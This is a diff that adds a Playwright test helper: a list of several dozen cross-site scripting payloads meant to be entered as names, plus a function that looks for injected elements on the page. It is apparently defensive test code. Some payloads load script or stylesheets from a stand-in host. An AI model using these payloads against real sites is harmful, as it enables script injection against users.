@@ -1,0 +1,60 @@
+import type { Page } from "playwright-core";
+
+/** Texts that run as a script wherever one of them is taken for markup, an attribute, an address or code. All fit into a name. */
+export const hostileTexts: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<ScRiPt>alert(1)</sCrIpT>",
+  "<script src=//evil.example/x.js></script>",
+  "</script><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "</textarea><script>alert(1)</script>",
+  "</noscript><script>alert(1)</script>",
+  "</style><script>alert(1)</script>",
+  "<<script>alert(1);//<</script>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=x onerror=alert(1)>",
+  '"><img src=x onerror=alert(1)>',
+  "'><img src=x onerror=alert(1)>",
+  "<img src='x' onerror='alert(1)'",
+  "<img/src/onerror=alert(1)>",
+  "<img src=x:x onerror=&#97;lert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  "<body onload=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<video><source onerror=alert(1)></video>",
+  "<audio src=x onerror=alert(1)>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<object data=javascript:alert(1)></object>",
+  "<embed src=javascript:alert(1)>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<form action=javascript:alert(1)><button>x</form>",
+  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+  "<base href=//evil.example/>",
+  "<link rel=stylesheet href=//evil.example/x.css>",
+  "<style>@import '//evil.example/x.css';</style>",
+  "<math><mi xlink:href=javascript:alert(1)>x</math>",
+  '" onfocus=alert(1) autofocus x="',
+  "' style=background:url(javascript:alert(1)) '",
+  "javascript:alert(1)",
+  "java&#09;script:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  `$\{alert(1)}`,
+  "{{constructor.constructor('alert(1)')()}}",
+  "'-alert(1)-'",
+  "\\u003cimg src=x onerror=alert(1)\\u003e",
+  "&lt;img src=x onerror=alert(1)&gt;",
+  "%3Cscript%3Ealert(1)%3C/script%3E",
+];
+
+/** Elements that only one of the texts could have made; whether one ran is the watch's to say, because each would show a dialog. */
+export const made = (page: Page): Promise<string[]> =>
+  page.evaluate(() => {
+    const strange =
+      "script:not([src^='/']), iframe, object, embed, base, video, audio, math, details, meta[http-equiv], img";
+    const handlers = "[onerror], [onload], [onfocus], [ontoggle], [onbegin], [href^='javascript:'], [action]";
+    return [...document.querySelectorAll(`${strange}, ${handlers}`)].map(({ outerHTML }) => outerHTML);
+  });
